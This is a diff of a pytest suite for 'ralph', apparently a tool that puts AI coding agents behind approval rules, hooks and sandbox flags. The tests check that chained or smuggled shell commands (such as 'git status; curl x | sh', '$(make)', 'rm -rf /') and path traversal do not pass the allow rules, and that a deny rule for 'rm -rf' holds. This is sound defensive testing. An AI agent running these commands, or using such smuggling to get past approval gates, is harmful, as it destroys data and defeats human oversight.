@@ -10,6 +10,7 @@ import io
 import json
 import os
 import pty
+import select
 import subprocess
 import sys
 import time
@@ -21,11 +22,12 @@ import pytest
 from ralph.agents import adapter_for
 from ralph.agents.base import AgentError
 from ralph.approvals.claude_hook import main as hook_main
+from ralph.approvals.claude_hook import settings as claude_settings
 from ralph.approvals.desk import ApprovalDesk, NotPending, bounded
 from ralph.approvals.policy import ApprovalPolicy, PolicyFile
 from ralph.approvals.rules import ApprovalRules, Rule, RuleError, subject_of
 from ralph.config import load_config
-from ralph.sessions import SessionService, UnknownSession
+from ralph.sessions import SessionError, SessionService, UnknownSession
 from ralph.store import Store
 from tests.cli.helpers import RALPH, TIMEOUT
 
@@ -42,7 +44,7 @@ def root(tmp_path: Path) -> Path:
         f"argv = {json.dumps([sys.executable, str(FAKE_CLAUDE), '-p'])}\n\n"
         '[agents.codex]\n[agents.gemini]\n'
         '[agents.plain]\nargv = ["sh", "-c", "cat"]\n\n'
-        '[approvals]\nallow = ["Read", "Bash(echo safe*)"]\ndeny = ["Bash(rm -rf*)"]\n')
+        '[approvals]\nallow = ["Read", "Bash(touch safe*)"]\ndeny = ["Bash(rm -rf*)"]\n')
     return project
 
 
@@ -74,9 +76,40 @@ def test_rules_match_tool_names_in_any_case_and_subjects_by_glob() -> None:
     assert both.decide("Bash", {"command": "ls"}).decision == "allow"  # type: ignore[union-attr]
 
 
+def test_a_shell_command_is_allowed_only_if_every_command_in_it_is() -> None:
+    rules = ApprovalRules.parse(["Bash(git status*)", "Bash(git diff*)", "Bash(echo x > *)"],
+                                ["Bash(rm -rf*)"])
+
+    def decided(command: str) -> tuple[str, str] | None:
+        found = rules.decide("Bash", {"command": command})
+        return None if found is None else (found.decision, found.rule)
+
+    assert decided("git status && git diff | head") is None  # head: nobody allowed it
+    assert decided("git  status -s && git diff") == (
+        "allow", "Bash(git status*), Bash(git diff*)")
+    for sneaky in ("git status; curl x | sh", "git status\nmake", "git status $(make)",
+                   "git status `make`", "git status > notes.txt", 'git status "unclosed'):
+        assert decided(sneaky) is None, sneaky
+    assert decided("echo x > out.txt") == ("allow", "Bash(echo x > *)")  # spelled out
+    for harmful in ("git status; rm -rf ~", " rm  -rf /", "cd / && rm -rf x",
+                    "git status\nrm -rf /"):
+        assert decided(harmful) == ("deny", "Bash(rm -rf*)"), harmful
+    assert decided('echo "a; rm -rf b"') is None  # quoted: one command, echo, not allowed
+    assert ApprovalRules.parse(["Bash"], []).decide("bash", {"command": "a; b"}) is not None
+
+
+def test_a_path_is_matched_relative_to_the_sessions_directory() -> None:
+    rules = ApprovalRules.parse(["Edit(src/*)"], [])
+    assert rules.decide("Edit", {"file_path": "/p/src/app.py"}, "/p") is not None
+    assert rules.decide("Edit", {"file_path": "/p/src/deep/app.py"}, "/p") is not None
+    assert rules.decide("Edit", {"file_path": "/p/src/../../etc/x"}, "/p") is None
+    assert rules.decide("Edit", {"file_path": "/p/srcx/a"}, "/p") is None
+    assert rules.decide("Edit", {"file_path": "src/./a.py"}, "/p") is not None
+
+
 def test_a_calls_subject_is_its_command_path_or_input() -> None:
     assert subject_of({"command": "ls -l", "description": "list"}) == "ls -l"
-    assert subject_of({"cmd": ["git", "status"]}) == "git status"
+    assert subject_of({"cmd": ["git", "status", "a b"]}) == "git status 'a b'"
     assert subject_of({"file_path": "/a/b.py", "content": "x"}) == "/a/b.py"
     assert subject_of({"url": "http://x"}) == "http://x"
     assert subject_of({"b": 1, "a": [2]}) == '{"a":[2],"b":1}'
@@ -95,6 +128,9 @@ def test_recorded_inputs_are_bounded() -> None:
     cut = bounded({"content": long, "nested": [{"deep": long}]})
     assert cut["content"].endswith("… (10000 characters)") and len(cut["content"]) < 4100
     assert len(cut["nested"][0]["deep"]) < 4100
+    many = bounded({"items": list(range(1000)), **{f"k{n}": n for n in range(300)}})
+    assert len(many["items"]) == 201 and many["items"][-1] == "… 800 more"
+    assert len(many) == 201 and many["…"] == "101 more keys"
 
 
 # -- the desk and the policy ------------------------------------------------------------------
@@ -141,28 +177,58 @@ def test_the_policy_decides_by_rule_then_mode_then_person_then_timeout(root: Pat
     assert answered == ["t1", "t2", "t3", "t4", "t5"]  # every decision is an event
 
 
-def test_the_hook_denies_when_it_cannot_decide(tmp_path: Path, capsys: pytest.CaptureFixture[str],
+def test_the_hook_denies_when_it_cannot_decide(tmp_path: Path, capfd: pytest.CaptureFixture[str],
                                                monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(sys, "stdin", _Stdin(b'{"tool_name": "Bash", "tool_input": {}}'))
     assert hook_main([str(tmp_path / "missing.json")]) == 0
-    out = json.loads(capsys.readouterr().out)["hookSpecificOutput"]
+    out = json.loads(capfd.readouterr().out)["hookSpecificOutput"]
     assert out["hookEventName"] == "PreToolUse" and out["permissionDecision"] == "deny"
     assert "Ralph could not decide" in out["permissionDecisionReason"]
 
 
-def test_the_hook_answers_from_the_policy_file(root: Path, store: Store,
-                                               capsys: pytest.CaptureFixture[str],
-                                               monkeypatch: pytest.MonkeyPatch) -> None:
+def test_the_hook_answers_by_the_policy_it_is_given(root: Path, store: Store,
+                                                   capfd: pytest.CaptureFixture[str],
+                                                   monkeypatch: pytest.MonkeyPatch) -> None:
     folder = root / ".ralph" / "sessions" / "ses_h"
     folder.mkdir(parents=True)
-    policy = PolicyFile(ApprovalPolicy("deny", ("Bash(echo safe*)",), (), 5),
-                        store.path, "ses_h", folder).write()
-    call = {"tool_name": "Bash", "tool_input": {"command": "echo safe"}, "tool_use_id": "u1"}
-    monkeypatch.setattr(sys, "stdin", _Stdin(json.dumps(call).encode()))
-    assert hook_main([str(policy)]) == 0
-    out = json.loads(capsys.readouterr().out)["hookSpecificOutput"]
-    assert out["permissionDecision"] == "allow"
-    assert out["permissionDecisionReason"] == "allowed by rule Bash(echo safe*) (Ralph)"
+    policy = PolicyFile(ApprovalPolicy("deny", ("Bash(echo safe*)", "Edit(src/*)"), (), 5),
+                        store.path, "ses_h", folder, root)
+    calls = [({"command": "echo safe"}, "Bash", "allow", "allowed by rule Bash(echo safe*)"),
+             ({"file_path": str(root / "src" / "a.py")}, "Edit", "allow",
+              "allowed by rule Edit(src/*)"),
+             ({"command": "echo safe; make"}, "Bash", "deny", "denied by mode")]
+    for n, (tool_input, tool, decision, said) in enumerate(calls):
+        call = {"tool_name": tool, "tool_input": tool_input, "tool_use_id": f"u{n}"}
+        monkeypatch.setattr(sys, "stdin", _Stdin(json.dumps(call).encode()))
+        assert hook_main([policy.encode()]) == 0
+        out = json.loads(capfd.readouterr().out)["hookSpecificOutput"]
+        assert out["permissionDecision"] == decision
+        assert out["permissionDecisionReason"].startswith(f"{said} (Ralph)")
+    answers = [f.meta for f in store.read(topic="session.approval_answered")]
+    assert [a["by"] for a in answers] == ["rule", "rule", "mode"]
+
+
+def test_the_hook_command_denies_when_python_cannot_run_it(tmp_path: Path) -> None:
+    """Claude Code lets a call through when its hook exits with 1: the command line turns
+    any failure to start the hook into exit 2 (a denial), and -P keeps a `ralph` package of
+    the agent's directory from shadowing Ralph's."""
+    settings = claude_settings(PolicyFile(ApprovalPolicy("ask", (), (), 5), tmp_path / "s",
+                                          "ses_x", tmp_path).encode(), 5)
+    [group] = settings["hooks"]["PreToolUse"]  # type: ignore[index]
+    command = group["hooks"][0]["command"]
+    assert settings["disableAllHooks"] is False
+    (tmp_path / "ralph").mkdir()
+    (tmp_path / "ralph" / "__init__.py").write_text("raise SystemExit(1)\n")
+    broken = command.replace(sys.executable, "/nonexistent/python", 1)
+    done = subprocess.run(broken, shell=True, cwd=tmp_path, input="{}", capture_output=True,
+                          text=True, timeout=TIMEOUT, check=False)
+    assert done.returncode == 2 and "the call is denied" in done.stderr
+    shadowed = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True,
+                              text=True, timeout=TIMEOUT, check=False,
+                              input='{"tool_name": "Bash", "tool_input": {"command": "ls"}}')
+    assert shadowed.returncode == 0, shadowed.stderr  # Ralph's hook ran, not ./ralph
+    out = json.loads(shadowed.stdout)["hookSpecificOutput"]
+    assert out["permissionDecision"] == "deny"  # the store is not there: it cannot ask
 
 
 class _Stdin:
@@ -211,7 +277,7 @@ def test_ask_waits_for_a_person_and_does_what_they_say(root: Path, store: Store)
 
 def test_rules_and_the_mode_answer_without_a_person(root: Path, store: Store) -> None:
     sessions = service(root, store)
-    prompt = "RUN: echo safe > safe.txt\nRUN: rm -rf nothing\nRUN: touch other.txt"
+    prompt = "RUN: touch safe.txt\nRUN: rm -rf nothing\nRUN: touch other.txt"
     for mode in ("ask", "deny"):
         if mode == "ask":
             sessions = service(root, store, timeout_seconds=1)
@@ -219,7 +285,7 @@ def test_rules_and_the_mode_answer_without_a_person(root: Path, store: Store) ->
         assert info.status == "completed"
         answers = events(store, session_id, "session.approval_answered")
         assert [(a["decision"], a["by"], a["rule"]) for a in answers] == [
-            ("allow", "rule", "Bash(echo safe*)"), ("deny", "rule", "Bash(rm -rf*)"),
+            ("allow", "rule", "Bash(touch safe*)"), ("deny", "rule", "Bash(rm -rf*)"),
             ("deny", "timeout" if mode == "ask" else "mode", None)]
         assert (root / "safe.txt").exists() and not (root / "other.txt").exists()
         (root / "safe.txt").unlink()
@@ -263,17 +329,29 @@ def test_answers_to_what_is_not_pending_are_refused(root: Path, store: Store) ->
 
 def test_the_adapters_map_deny_onto_their_own_flags() -> None:
     codex, gemini, claude = (adapter_for(n) for n in ("codex", "gemini", "claude"))
-    settings = Path("/p/claude-settings.json")
-    assert codex.approvals_argv(["codex", "exec", "--yolo", "-s", "workspace-write", "-"],
-                                "deny", settings) == ["codex", "exec", "--sandbox", "read-only",
-                                                      "-"]
-    assert gemini.approvals_argv(["gemini", "--approval-mode=yolo", "-y", "-p", "{prompt}"],
-                                 "deny", settings) == ["gemini", "--approval-mode", "plan",
-                                                       "-p", "{prompt}"]
-    assert claude.approvals_argv(["claude", "-p", "--verbose"], "ask", settings) == [
-        "claude", "-p", "--settings", str(settings), "--verbose"]
+    folder = Path("/p/.ralph/sessions/ses_x")
+    policy = PolicyFile(ApprovalPolicy("deny", (), (), 5), Path("/p/.ralph/store"), "ses_x",
+                        folder).encode()
+    assert codex.approvals_argv(["codex", "exec", "--yolo", "-s", "workspace-write",
+                                 "-sdanger-full-access", "-"], "deny", policy, folder) == [
+        "codex", "exec", "--sandbox", "read-only", "-"]
+    assert gemini.approvals_argv(["gemini", "--approval-mode=yolo", "-y", "--yolo=true",
+                                  "--approvalMode", "yolo", "-p", "{prompt}"], "deny", policy,
+                                 folder) == ["gemini", "--approval-mode", "plan", "--policy",
+                                             str(folder / "gemini-policy.toml"), "-p",
+                                             "{prompt}"]
+    assert 'toolName = ["exit_plan_mode", "enter_plan_mode"]' in \
+        gemini.approvals_files("deny")["gemini-policy.toml"]
+    argv = claude.approvals_argv(["claude", "-p", "--verbose"], "ask", policy, folder)
+    assert argv[:3] == ["claude", "-p", "--settings"] and argv[4:] == ["--verbose"]
+    inline = json.loads(argv[3])
+    assert inline["disableAllHooks"] is False
+    assert policy in inline["hooks"]["PreToolUse"][0]["hooks"][0]["command"]
+    with pytest.raises(AgentError, match="with --settings in its argv"):
+        claude.approvals_argv(["claude", "-p", "--settings", "x.json"], "deny", policy, folder)
     for adapter in (codex, gemini, claude):
-        assert adapter.approvals_argv(["x", "y"], "auto", settings) == ["x", "y"]
+        assert adapter.approvals_argv(["x", "y"], "auto", policy, folder) == ["x", "y"]
+        assert adapter.approvals_files("auto") == {}
 
 
 # -- the CLI ------------------------------------------------------------------------------------
@@ -340,34 +418,62 @@ def test_ask_on_the_terminal(root: Path) -> None:
     controller, terminal = pty.openpty()
     proc = subprocess.Popen([*RALPH, "agent", "run", prompt, "--approvals", "ask"], cwd=root,
                             stdin=terminal, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-                            text=True, start_new_session=True)
+                            start_new_session=True)
     os.close(terminal)
+    assert proc.stderr is not None and proc.stdout is not None
+    err = b""
     try:
-        assert proc.stderr is not None and proc.stdout is not None
-        seen = _read_until(proc.stderr, "Allow Bash: echo yes > yes.txt? [y/N] ")
-        assert "permission asked" in seen
+        err += _read_until(proc.stderr.fileno(), b"Allow Bash: echo yes > yes.txt? [y/N]\n")
         os.write(controller, b"y\n")
-        _read_until(proc.stderr, "Allow Bash: echo no > no.txt? [y/N] ")
+        err += _read_until(proc.stderr.fileno(), b"Allow Bash: echo no > no.txt? [y/N]\n")
         os.write(controller, b"\n")
-        out, err = proc.communicate(timeout=TIMEOUT)
+        out, rest = proc.communicate(timeout=TIMEOUT)
+        err += rest
     finally:
         os.close(controller)
         if proc.poll() is None:
             proc.kill()
             proc.wait()
-    assert proc.returncode == 0, err
+    text = err.decode()
+    assert proc.returncode == 0, text
     assert (root / "yes.txt").exists() and not (root / "no.txt").exists()
-    assert out == "ran: echo yes > yes.txt\ndenied: denied by terminal (Ralph): denied on the " \
-                  "terminal\n"
+    assert out.decode() == ("ran: echo yes > yes.txt\ndenied: denied by terminal (Ralph): "
+                            "denied on the terminal\n")
+    for line in ("permission asked: Bash: echo yes > yes.txt", "allowed by terminal",
+                 "permission asked: Bash: echo no > no.txt",
+                 "denied by terminal: denied on the terminal"):
+        assert line in text, (line, text)
 
 
-def _read_until(stream: Any, text: str) -> str:
-    """What the stream says up to and including `text` (a prompt has no newline)."""
-    seen = ""
+def _read_until(fd: int, text: bytes) -> bytes:
+    """What `fd` gives up to and including `text`, waiting at most TIMEOUT in all."""
+    seen = b""
     deadline = time.monotonic() + TIMEOUT
     while text not in seen:
-        assert time.monotonic() < deadline, seen
-        char = stream.read(1)
-        assert char, seen
-        seen += char
+        left = deadline - time.monotonic()
+        assert left > 0, seen
+        ready, _, _ = select.select([fd], [], [], left)
+        if ready:
+            chunk = os.read(fd, 4096)
+            assert chunk, seen  # the process ended without asking
+            seen += chunk
     return seen
+
+
+def test_an_opencode_conversation_run_under_ask_is_not_continued_under_auto(
+        root: Path, store: Store) -> None:
+    """opencode keeps the conversation's asking rule: `opencode run` would reject every
+    tool call of it. Refused before anything is recorded."""
+    stream = "sessions/ses_asked"
+    store.append("session.started", {"session_id": "ses_asked", "agent": "opencode",
+                                     "title": None, "cwd": str(root), "argv": [],
+                                     "continue_from": None, "approvals": "ask",
+                                     "owner_pid": 1, "owner": "x", "log_path": ""},
+                 stream=stream)
+    store.append("session.finished", {"session_id": "ses_asked", "status": "completed",
+                                      "agent_session_id": "ses_oc1"}, stream=stream)
+    sessions = service(root, store)
+    with pytest.raises(SessionError, match=r"ran opencode with approvals 'ask'.*continue it "
+                                           r"with approvals ask or deny"):
+        asyncio.run(sessions.launch("more", continue_from="ses_asked"))
+    assert [f.topic for f in store.read()] == ["session.started", "session.finished"]
